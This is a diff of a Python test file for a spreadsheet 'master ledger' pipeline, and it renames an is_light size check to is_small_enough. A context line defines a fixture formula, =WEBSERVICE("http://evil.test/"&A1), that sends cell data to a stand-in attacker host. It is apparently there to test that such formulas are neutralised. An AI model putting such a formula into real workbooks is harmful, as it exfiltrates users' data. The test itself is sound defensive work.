@@ -24,7 +24,7 @@ from pipeline.master.read import read
 from pipeline.model.findings import Finding, finding
 from pipeline.model.grid import CellRef
 from pipeline.workbooks.annotate import annotate
-from pipeline.workbooks.inert import is_inert, is_light
+from pipeline.workbooks.inert import is_inert, is_small_enough
 
 CALL = '=WEBSERVICE("http://evil.test/"&A1)'
 FOUND = (finding("name-empty", title="事業名", at=CellRef("事業一覧", 2, 2)),)
@@ -139,7 +139,7 @@ def test_what_would_take_openpyxl_minutes_is_shown_from_its_values_at_once(
     tmp_path: Path, part: str, old: bytes, new: bytes
 ) -> None:
     path = edited(write_master(tmp_path / "台帳.xlsx", [row(1), row(2)]), part, old, new)
-    assert not is_light(path.read_bytes())
+    assert not is_small_enough(path.read_bytes())
     start = time.process_time()
     content = annotated(path)
     assert time.process_time() - start < 15
@@ -150,12 +150,12 @@ def test_what_would_take_openpyxl_minutes_is_shown_from_its_values_at_once(
 
 def test_an_ordinary_master_keeps_its_formats(tmp_path: Path) -> None:
     path = write_master(tmp_path / "台帳.xlsx", [row(n) for n in range(1, 60)])
-    assert is_light(path.read_bytes())
+    assert is_small_enough(path.read_bytes())
 
 
 def test_large_parts_that_no_one_looks_at_are_not_loaded(tmp_path: Path) -> None:
     path = write_master(tmp_path / "台帳.xlsx", [row(1)])
     with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("xl/pivotCache/records1.xml", b" " * 17_000_000)
-    assert not is_light(path.read_bytes())
+    assert not is_small_enough(path.read_bytes())
     assert hashlib.sha256(path.read_bytes()).hexdigest() == read(path).sha256
